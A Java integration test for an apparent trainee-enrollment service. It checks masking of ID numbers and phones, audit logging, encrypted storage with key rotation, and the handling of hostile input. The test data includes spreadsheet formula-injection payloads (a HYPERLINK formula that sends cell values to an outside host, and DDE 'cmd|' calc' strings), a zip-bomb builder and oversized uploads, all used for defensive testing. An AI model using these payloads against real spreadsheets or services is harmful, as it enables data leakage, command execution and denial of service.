package cn.sunshine.enrollment;

import cn.sunshine.enrollment.roster.RosterReader;
import cn.sunshine.enrollment.trainee.Enrollment;
import cn.sunshine.platform.identifiers.ResidentIdNumber;
import cn.sunshine.platform.test.Http;
import cn.sunshine.platform.test.PersonalDataProbe;
import cn.sunshine.platform.test.Seeds;
import cn.sunshine.platform.test.SunshineServiceTest;
import cn.sunshine.platform.test.TestTokens;
import tools.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Issue 14, personal data: for every operation of enrollment's OpenAPI document that answers with
 * trainee data, and every role, nobody who sees a masked ID number or phone can rebuild the whole one
 * from the answer (masked ID + birth date, + age, a date anywhere in the answer, the hidden digits in
 * another field); the county's officer sees them whole and each such answer is audited first; events
 * and logs carry neither.
 */
@SunshineServiceTest
@ExtendWith(OutputCaptureExtension.class)
class PersonalDataTest extends EnrollmentServiceTest {

    static final String DIVISION = Seeds.YINGCHENG;
    static final String OFFICER = TestTokens.of("COUNTY_OFFICER", DIVISION);
    static final Pattern MASKED_ID = PersonalDataProbe.MASKED_ID;

    /** A class of one accredited base with three trainees; returns {baseId, classId}. */
    String[] classWithTrainees(List<String> ids, List<String> phones, List<String> names) {
        clock.set(Instant.parse("2026-07-06T01:00:00Z"));
        AgreedBase base = agreedBase("应城市阳光职业培训学校", DIVISION, 20);
        String staff = base.staff();
        String classId = base.reportClass(http(), 20, false);
        for (int i = 0; i < names.size(); i++) {
            boolean male = i % 2 == 0;
            String id = People.idNumber(male);
            // the hidden middle digits from 5000..9999: never a year, so the check below cannot hit by chance
            String phone = "13" + (7 + i % 3) + (5000 + (Math.abs(id.hashCode()) % 5000)) + String.format("%04d", 1000 + i);
            Http.Response r = http().as(staff).post("/api/enrollment/classes/" + classId + "/enrollments",
                    People.trainee(names.get(i), male, id, phone));
            assertThat(r.status()).as(r.toString()).isEqualTo(201);
            ids.add(id);
            phones.add(phone);
            attempt("POST enroll answer to the base", r.body(), ids, phones);
        }
        return new String[]{base.baseId(), classId};
    }

    @Test
    void noAnswerLetsAnyRoleRebuildAWholeIdNumberOrPhone(CapturedOutput output) throws Exception {
        List<String> ids = new ArrayList<>();
        List<String> phones = new ArrayList<>();
        String[] bc = classWithTrainees(ids, phones, List.of("张秀英", "李建国", "王桂兰"));
        String baseId = bc[0];
        String classId = bc[1];
        String staff = TestTokens.baseStaff(DIVISION, baseId);
        String enrollmentId = http().as(staff).get("/api/enrollment/classes/" + classId + "/enrollments").json()
                .path("items").get(0).path("id").asText();
        // the steps whose answers carry the trainee: to the base (masked) and to the county's officer (whole, audited)
        assertThat(http().as(OFFICER).post("/api/enrollment/classes/" + classId + "/opening", Map.of()).status()).isEqualTo(200);
        Http.Response checked = http().as(OFFICER).post("/api/enrollment/enrollments/" + enrollmentId + "/roster-check",
                Map.of("outcome", "VERIFIED"));
        assertThat(checked.status()).isEqualTo(200);
        assertThat(checked.json().path("trainee").path("idNumber").asText()).isIn(ids);
        Http.Response assessed = http().as(staff).post("/api/enrollment/enrollments/" + enrollmentId + "/assessment",
                Map.of("theoryScore", 82, "practicalScore", 90));
        attempt("POST assessment answer to the base", assessed.body(), ids, phones);
        Http.Response done = http().as(staff).post("/api/enrollment/enrollments/" + enrollmentId + "/completion",
                Map.of("certificateNumber", "YC2026-" + enrollmentId.substring(0, 8)));
        attempt("POST completion answer to the base", done.body(), ids, phones);

        // every GET of the OpenAPI document, every role, own jurisdiction (and a foreign base's staff, and nobody)
        Map<String, String> ours = Map.of("classId", classId, "enrollmentId", enrollmentId, "baseId", baseId);
        PersonalDataProbe.Walk walk = PersonalDataProbe.walk(port, "/api/enrollment", (template, name) -> ours.get(name),
                PersonalDataProbe.callers(DIVISION, baseId));
        int answersWithTrainees = 0;
        for (PersonalDataProbe.Answer a : walk.answers()) {
            if (ids.stream().anyMatch(id -> a.text().contains(id.substring(14)))) {
                answersWithTrainees++;
            }
            if (a.caller().equals("COUNTY_OFFICER")) {
                continue; // whole by design: audited, checked below
            }
            attempt(a.label(), a.text(), ids, phones);
        }
        List<String> walked = walk.requests();
        assertThat(walked).as("operations walked").anyMatch(s -> s.contains("/ledger") && s.contains("format=xlsx"))
                .anyMatch(s -> s.endsWith(classId + "/enrollments")).anyMatch(s -> s.endsWith("/enrollments/" + enrollmentId));
        assertThat(answersWithTrainees).as("answers that carried trainees").isGreaterThan(10);

        // the county's officer: whole, and audited with the purpose given
        Http.Response whole = http().as(OFFICER).get("/api/enrollment/enrollments/" + enrollmentId + "?purpose="
                + URLEncoder.encode("核对补助申报", StandardCharsets.UTF_8));
        assertThat(whole.json().path("trainee").path("idNumber").asText()).isIn(ids);
        assertThat(whole.json().path("trainee").path("birthDate").asText()).isNotEmpty();
        String auditor = TestTokens.of("AUDITOR", DIVISION);
        JsonNode audit = http().as(auditor).get("/api/enrollment/audit-records?classId=" + classId + "&size=100").json();
        List<String> ops = audit.path("items").findValues("operation").stream().map(JsonNode::asText).toList();
        assertThat(ops).contains("enrollment.read", "enrollment.list", "ledger.export", "enrollment.roster-check");
        assertThat(audit.path("items").findValues("purpose").stream().map(JsonNode::asText)).contains("核对补助申报");
        assertThat(audit.path("items").get(0).path("readBy").asText()).isNotBlank();
        assertThat(http().as(TestTokens.of("PROVINCE_OFFICER", "420000")).get("/api/enrollment/audit-records?classId="
                + classId).json().path("total").asLong()).isEqualTo(audit.path("total").asLong());
        assertThat(http().as(TestTokens.of("AUDITOR", "430102")).get("/api/enrollment/audit-records?classId="
                + classId).json().path("total").asLong()).as("another province's auditor").isZero();
        assertThat(http().as(staff).get("/api/enrollment/audit-records").status()).isEqualTo(403);

        // events: every payload published about these trainees
        await().atMost(Duration.ofSeconds(10)).until(() -> tap.received().stream().filter(t -> t.body().contains(classId)).count() >= 4);
        String events = String.join("\n", tap.received().stream().filter(t -> t.body().contains(classId)).map(t -> t.body()).toList());
        attempt("events", events, ids, phones);
        assertThat(MASKED_ID.matcher(events).find()).as("events carry the masked number").isTrue();

        // logs
        attempt("logs", output.getAll(), ids, phones);
    }

    private HttpResponse<byte[]> get(String token, String path) throws Exception {
        return HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .header("Authorization", "Bearer " + token).GET().build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    /** The platform's attempt (platform-test {@link PersonalDataProbe#attempt}), shared by every service. */
    static void attempt(String label, String text, List<String> ids, List<String> phones) {
        PersonalDataProbe.attempt(label, text, ids, phones);
    }

    static String birth(String id) {
        return LocalDate.parse(id.substring(6, 14), DateTimeFormatter.BASIC_ISO_DATE).toString();
    }

    @Test
    void theLedgerOfAMaskedReaderHasNoAgeAndNoAddress() throws Exception {
        List<String> ids = new ArrayList<>();
        List<String> phones = new ArrayList<>();
        String[] bc = classWithTrainees(ids, phones, List.of("周志强"));
        HttpResponse<byte[]> r = get(TestTokens.of("CITY_OFFICER", "420900"), "/api/enrollment/classes/" + bc[1] + "/ledger");
        List<List<String>> rows = RosterReader.readCsv(new java.io.ByteArrayInputStream(r.body()));
        List<String> en = rows.get(1);
        List<String> row = rows.get(2);
        assertThat(row.get(en.indexOf("age"))).isEmpty();
        assertThat(row.get(en.indexOf("town"))).isEmpty();
        assertThat(row.get(en.indexOf("idNumber"))).matches("\\d{6}\\*{8}\\d{3}[0-9X]");
        assertThat(birth(ids.get(0))).isNotEmpty();
        JsonNode mine = http().as(TestTokens.baseStaff(DIVISION, bc[0])).get("/api/enrollment/classes/" + bc[1] + "/enrollments")
                .json().path("items").get(0).path("trainee");
        assertThat(mine.path("town").asText()).as("the own base keeps the address").isEqualTo("杨河镇");
        assertThat(mine.path("birthDate").isNull() || mine.path("birthDate").isMissingNode()).isTrue();
        assertThat(mine.path("ageAtEnrollment").isNull() || mine.path("ageAtEnrollment").isMissingNode()).isTrue();
    }

    // ------------------------------------------------------------------------------- at rest

    @Autowired
    cn.sunshine.enrollment.privacy.PersonalDataKeyProperties keyProperties;

    @Test
    void recordsOnDiskHoldNoWholeIdOrPhoneAndKeyRotationLosesNone() {
        List<String> ids = new ArrayList<>();
        List<String> phones = new ArrayList<>();
        String[] bc = classWithTrainees(ids, phones, List.of("孙丽华", "郑国强", "冯春梅"));
        // every document of every collection, as BSON
        for (String collection : mongo.getCollectionNames()) {
            for (org.bson.Document d : mongo.getCollection(collection).find()) {
                String raw = d.toJson();
                for (int i = 0; i < ids.size(); i++) {
                    assertThat(raw).as(collection + " on disk").doesNotContain(ids.get(i)).doesNotContain(phones.get(i))
                            .doesNotContain(ids.get(i).substring(6, 14)).doesNotContain(birth(ids.get(i)));
                }
            }
        }
        List<org.bson.Document> mine = mongo.getCollection("enrollments").find(new org.bson.Document("classId", bc[1]))
                .into(new ArrayList<>());
        assertThat(mine).hasSize(3).allSatisfy(d -> {
            org.bson.Document t = d.get("trainee", org.bson.Document.class);
            assertThat(t).doesNotContainKeys("idNumber", "phone", "birthDate", "town", "village");
            assertThat(t.get("sealed", org.bson.Document.class).getString("kid")).isEqualTo("test-1");
        });
        // one record written before sealing (its trainee in the clear): the rotation seals it too
        String enrollmentId = mine.get(0).getString("_id");
        cn.sunshine.enrollment.trainee.Trainee t0 = mongo.findById(enrollmentId, Enrollment.class).getTrainee();
        mongo.getCollection("enrollments").updateOne(new org.bson.Document("_id", enrollmentId), new org.bson.Document("$set",
                new org.bson.Document("trainee", new org.bson.Document("name", t0.name()).append("gender", t0.gender().name())
                        .append("idNumber", t0.idNumber()).append("birthDate", t0.birthDate().toString())
                        .append("ageAtEnrollment", t0.ageAtEnrollment()).append("householdDivision", t0.householdDivision())
                        .append("town", t0.town()).append("village", t0.village()).append("ruralHousehold", t0.ruralHousehold())
                        .append("phone", t0.phone()).append("education", t0.education().name()))));
        assertThat(mongo.findById(enrollmentId, Enrollment.class).getTrainee()).as("read in the clear").isEqualTo(t0);

        String oldKey = keyProperties.currentKey();
        String newKey = java.util.Base64.getEncoder().encodeToString("rotated-test-kek-0123456789abcde".getBytes(StandardCharsets.US_ASCII));
        long total = mongo.getCollection("enrollments").countDocuments();
        try {
            var rotated = new cn.sunshine.enrollment.privacy.PersonalDataKeys(mongo, new cn.sunshine.enrollment.privacy.SealedTrainees(
                    new cn.sunshine.platform.crypto.EnvelopeCipher("test-2", Map.of("test-1", oldKey, "test-2", newKey))));
            var r = rotated.rewrapAll();
            assertThat(r.sealed()).isEqualTo(1);
            assertThat(r.after().recordsByKeyId()).containsOnlyKeys("test-2").containsEntry("test-2", total);
            assertThat(r.after().inTheClear()).isZero();
            // the old KEK removed: every record still opens, with the new one alone
            var newOnly = new cn.sunshine.enrollment.privacy.SealedTrainees(
                    new cn.sunshine.platform.crypto.EnvelopeCipher("test-2", Map.of("test-2", newKey)));
            var oldOnly = new cn.sunshine.enrollment.privacy.SealedTrainees(
                    new cn.sunshine.platform.crypto.EnvelopeCipher("test-1", Map.of("test-1", oldKey)));
            List<String> opened = new ArrayList<>();
            for (org.bson.Document d : mongo.getCollection("enrollments").find()) {
                org.bson.Document t = d.get("trainee", org.bson.Document.class);
                cn.sunshine.enrollment.trainee.Trainee tr = newOnly.open(t);
                assertThat(ResidentIdNumber.problem(tr.idNumber())).as(d.getString("_id")).isEmpty();
                opened.add(tr.idNumber());
                org.junit.jupiter.api.Assertions.assertThrows(IllegalStateException.class, () -> oldOnly.open(t));
            }
            assertThat(opened).hasSize((int) total).containsAll(ids);
        } finally {
            // back under the tests' KEK, for the other tests of this run
            var back = new cn.sunshine.enrollment.privacy.PersonalDataKeys(mongo, new cn.sunshine.enrollment.privacy.SealedTrainees(
                    new cn.sunshine.platform.crypto.EnvelopeCipher("test-1", Map.of("test-1", oldKey, "test-2", newKey))));
            assertThat(back.rewrapAll().after().recordsByKeyId()).containsOnlyKeys("test-1");
        }
        assertThat(mongo.findById(enrollmentId, Enrollment.class).getTrainee()).isEqualTo(t0);

        // the operator's endpoint: the census, and the re-wrap (nothing left to do)
        String operator = TestTokens.of("OPERATOR", DIVISION);
        Http.Response census = http().as(operator).get("/actuator/personaldatakeys");
        assertThat(census.status()).as(census.toString()).isEqualTo(200);
        assertThat(census.json().path("currentKeyId").asText()).isEqualTo("test-1");
        assertThat(census.json().path("recordsByKeyId").path("test-1").asLong()).isEqualTo(total);
        Http.Response rotate = http().as(operator).post("/actuator/personaldatakeys", Map.of());
        assertThat(rotate.status()).as(rotate.toString()).isEqualTo(200);
        assertThat(rotate.json().path("rewrapped").asLong()).isZero();
        assertThat(http().as(OFFICER).get("/actuator/personaldatakeys").status()).isEqualTo(403);
    }

    // ------------------------------------------------------------------------------- exports

    static final List<String> DANGEROUS = List.of("=", "+", "-", "@", "\t", "\r");

    @Test
    void aNameBeginningWithAFormulaCharacterComesOutInertInCsvAndXlsx() throws Exception {
        List<String> ids = new ArrayList<>();
        List<String> phones = new ArrayList<>();
        String[] bc = classWithTrainees(ids, phones, List.of("=HYPERLINK(\"http://x/?\"&E3&J3,\"查看\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"));
        for (String token : List.of(OFFICER, TestTokens.baseStaff(DIVISION, bc[0]))) {
            HttpResponse<byte[]> csv = get(token, "/api/enrollment/classes/" + bc[1] + "/ledger?format=csv");
            String raw = new String(csv.body(), StandardCharsets.UTF_8);
            assertThat(raw).contains("\"'=HYPERLINK(\"\"http://x/?\"\"&E3&J3,\"\"查看\"\")\"", "\"'+1+cmd|' /C calc'!A0\"",
                    "\"'-2+3\"", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
            for (List<String> row : RosterReader.readCsv(new java.io.ByteArrayInputStream(csv.body()))) {
                for (String cell : row) {
                    assertThat(cn.sunshine.platform.export.SafeCells.dangerous(cell)).as("CSV cell " + cell).isFalse();
                }
            }
            HttpResponse<byte[]> xlsx = get(token, "/api/enrollment/classes/" + bc[1] + "/ledger?format=xlsx");
            assertXlsxInert(xlsx.body(), 4);
        }
        // a tab or a carriage return cannot begin a name (names are trimmed): the writer itself, every character
        List<List<String>> rows = new ArrayList<>();
        for (String c : List.of("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) {
            rows.add(List.of(c + "1+1", "ok", c + "cmd|' /C calc'!A0"));
        }
        String csv = new String(cn.sunshine.enrollment.ledger.Sheets.writeCsv(rows), StandardCharsets.UTF_8);
        for (List<String> row : RosterReader.readCsv(new java.io.ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)))) {
            assertThat(row.get(0)).startsWith("'");
            assertThat(row.get(2)).startsWith("'");
        }
        assertThat(csv).contains("\"'\t1+1\"", "\"'\r1+1\"", "\"'=1+1\"");
        assertXlsxInert(cn.sunshine.enrollment.ledger.Sheets.writeXlsx("台帐", rows), 20);
    }

    private static void assertXlsxInert(byte[] xlsx, int atLeast) throws Exception {
        int dangerousSeen = 0;
        try (var wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
            for (var row : wb.getSheetAt(0)) {
                for (var cell : row) {
                    assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
                    String v = cell.getStringCellValue();
                    assertThat(cn.sunshine.platform.export.SafeCells.dangerous(v)).as("XLSX cell " + v).isFalse();
                    if (v.length() > 1 && v.charAt(0) == '\'' && cn.sunshine.platform.export.SafeCells.dangerous(v.substring(1))) {
                        dangerousSeen++;
                    }
                }
            }
        }
        assertThat(dangerousSeen).isGreaterThanOrEqualTo(atLeast);
    }

    // ------------------------------------------------------------------------------- uploads

    /** The bound on the service's used heap while it refuses a hostile upload. */
    static final long HEAP_BOUND = 64L * 1024 * 1024;

    @Test
    void hostileUploadsAreRefusedEarlyWithA4xxAndTheHeapStaysBounded() throws Exception {
        String[] bc = classWithTrainees(new ArrayList<>(), new ArrayList<>(), List.of("吴建华"));
        String staff = TestTokens.baseStaff(DIVISION, bc[0]);
        String path = "/api/enrollment/classes/" + bc[1] + "/roster";

        byte[] tenMegabytesOfNewlines = new byte[10 * 1024 * 1024];
        java.util.Arrays.fill(tenMegabytesOfNewlines, (byte) '\n');
        expectRefused("10 MB of newlines", staff, path, "text/csv", tenMegabytesOfNewlines, "maxBytes");

        byte[] justUnderTheSizeOfNewlines = new byte[cn.sunshine.enrollment.roster.UploadLimits.MAX_BYTES - 16];
        java.util.Arrays.fill(justUnderTheSizeOfNewlines, (byte) '\n');
        expectRefused("4 MB of newlines", staff, path, "text/csv", justUnderTheSizeOfNewlines, "maxLines");

        expectRefused("a CSV row of 100,000 commas", staff, path, "text/csv",
                ("姓名" + ",".repeat(100_000)).getBytes(StandardCharsets.UTF_8), "maxColumns");

        expectRefused("a zip bomb", staff, path, XLSX, zipBomb(), "maxCompressionRatio");

        expectRefused("a cell at column XFD", staff, path, XLSX, cellAtXfd(), "maxColumns");

        // the reader alone, in this thread: what it allocates for the 4 MB of newlines
        var threads = (com.sun.management.ThreadMXBean) java.lang.management.ManagementFactory.getThreadMXBean();
        long before = threads.getCurrentThreadAllocatedBytes();
        org.junit.jupiter.api.Assertions.assertThrows(cn.sunshine.platform.domain.DomainException.class,
                () -> RosterReader.readCsv(new java.io.ByteArrayInputStream(justUnderTheSizeOfNewlines)));
        long allocated = threads.getCurrentThreadAllocatedBytes() - before;
        System.out.printf("upload-heap: reader allocated %.1f MB for 4 MB of newlines%n", allocated / 1048576.0);
        assertThat(allocated).isLessThan(HEAP_BOUND);
    }

    static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    private void expectRefused(String what, String token, String path, String type, byte[] body, String limit) throws Exception {
        var memory = java.lang.management.ManagementFactory.getMemoryMXBean();
        System.gc();
        Thread.sleep(200);
        long base = memory.getHeapMemoryUsage().getUsed();
        long[] peak = {base};
        java.util.concurrent.atomic.AtomicBoolean sampling = new java.util.concurrent.atomic.AtomicBoolean(true);
        Thread sampler = new Thread(() -> {
            while (sampling.get()) {
                peak[0] = Math.max(peak[0], memory.getHeapMemoryUsage().getUsed());
                try {
                    Thread.sleep(1);
                } catch (InterruptedException e) {
                    return;
                }
            }
        });
        sampler.start();
        int status;
        String answer;
        try {
            if (body.length > cn.sunshine.enrollment.roster.UploadLimits.MAX_BYTES) {
                String[] r = expectContinue(token, path, type, body.length);
                status = Integer.parseInt(r[0]);
                answer = r[1];
            } else {
            HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                            URI.create("http://127.0.0.1:" + port + path)).header("Authorization", "Bearer " + token)
                    .header("Content-Type", type).POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(),
                    HttpResponse.BodyHandlers.ofString());
            status = r.statusCode();
            answer = r.body();
            }
        } finally {
            sampling.set(false);
            sampler.join();
        }
        long grew = peak[0] - base;
        System.out.printf("upload-heap: %s -> used heap grew by at most %.1f MB%n", what, grew / 1048576.0);
        assertThat(status).as(what + ": " + answer).isEqualTo(413);
        assertThat(answer).contains("urn:sunshine:problem:upload-too-large").contains(limit);
        assertThat(grew).as(what + ": growth of the used heap").isLessThan(HEAP_BOUND);
    }

    /**
     * Sends the headers of a large upload with {@code Expect: 100-continue}, as curl does, and reads the
     * answer: the service refuses by the Content-Length before asking for the body (the JDK 17 HTTP
     * client waits for ever on such an answer, hence a socket).
     */
    private String[] expectContinue(String token, String path, String type, int length) throws Exception {
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", port)) {
            socket.setSoTimeout(10_000);
            String head = "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1:" + port + "\r\nAuthorization: Bearer " + token
                    + "\r\nContent-Type: " + type + "\r\nContent-Length: " + length + "\r\nExpect: 100-continue\r\n\r\n";
            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            String response = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            return new String[]{response.substring(9, 12), response};
        }
    }

    private static byte[] zipBomb() throws Exception {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
            zip.setLevel(9);
            entry(zip, "[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
            entry(zip, "xl/workbook.xml", "<workbook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                    + "<sheets><sheet name=\"s\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
            entry(zip, "xl/_rels/workbook.xml.rels", "<Relationships><Relationship Id=\"rId1\" Target=\"worksheets/sheet1.xml\"/></Relationships>");
            zip.putNextEntry(new java.util.zip.ZipEntry("xl/worksheets/sheet1.xml"));
            zip.write("<worksheet><sheetData>".getBytes(StandardCharsets.US_ASCII));
            byte[] spaces = new byte[1024 * 1024];
            java.util.Arrays.fill(spaces, (byte) ' ');
            for (int i = 0; i < 200; i++) { // 200 MB inflated
                zip.write(spaces);
            }
            zip.write("</sheetData></worksheet>".getBytes(StandardCharsets.US_ASCII));
            zip.closeEntry();
        }
        return out.toByteArray();
    }

    private static void entry(java.util.zip.ZipOutputStream zip, String name, String text) throws Exception {
        zip.putNextEntry(new java.util.zip.ZipEntry(name));
        zip.write(text.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }

    private static byte[] cellAtXfd() throws Exception {
        try (var wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(); var out = new java.io.ByteArrayOutputStream()) {
            var sheet = wb.createSheet("名册");
            var header = sheet.createRow(0);
            header.createCell(0).setCellValue("姓名");
            header.createCell(16383).setCellValue("XFD");
            wb.write(out);
            return out.toByteArray();
        }
    }

    @Test
    void anXlsxRosterIsStillImportedThroughTheStreamingReader() throws Exception {
        String[] bc = classWithTrainees(new ArrayList<>(), new ArrayList<>(), List.of("陈小红"));
        String staff = TestTokens.baseStaff(DIVISION, bc[0]);
        List<String> ids = List.of(People.idNumber(true), People.idNumber(false), People.idNumber(true));
        byte[] xlsx;
        try (var wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(); var out = new java.io.ByteArrayOutputStream()) {
            var sheet = wb.createSheet("名册");
            String[] zh = {"姓名", "性别", "身份证号", "户籍县", "乡镇", "村", "农村户籍", "手机", "文化程度", "补助档次", "补助金额(分)"};
            String[] en = {"name", "gender", "idNumber", "householdDivision", "town", "village", "ruralHousehold", "phone",
                    "education", "subsidyTier", "subsidyFen"};
            var h0 = sheet.createRow(0);
            var h1 = sheet.createRow(1);
            for (int c = 0; c < zh.length; c++) {
                h0.createCell(c).setCellValue(zh[c]);
                h1.createCell(c).setCellValue(en[c]);
            }
            for (int r = 0; r < ids.size(); r++) {
                var row = sheet.createRow(r + 2);
                row.createCell(0).setCellValue(List.of("赵一", "钱二", "孙三").get(r));
                row.createCell(1).setCellValue(r == 1 ? "女" : "男");
                row.createCell(2).setCellValue(ids.get(r));
                row.createCell(3).setCellValue(420981); // a number cell
                row.createCell(4).setCellValue("杨河镇");
                row.createCell(5).setCellValue("三合村");
                row.createCell(6).setCellValue(true); // a boolean cell
                row.createCell(7).setCellValue("1387655" + String.format("%04d", r));
                row.createCell(8).setCellValue("初中");
                row.createCell(9).setCellValue("TIER_2");
                row.createCell(10).setCellValue(20000);
            }
            wb.write(out);
            xlsx = out.toByteArray();
        }
        HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                        URI.create("http://127.0.0.1:" + port + "/api/enrollment/classes/" + bc[1] + "/roster"))
                .header("Authorization", "Bearer " + staff).header("Content-Type", XLSX)
                .POST(HttpRequest.BodyPublishers.ofByteArray(xlsx)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
        String list = http().as(OFFICER).get("/api/enrollment/classes/" + bc[1] + "/enrollments?size=10").body();
        assertThat(list).contains(ids.get(0), ids.get(1), ids.get(2), "13876550002");
    }
}
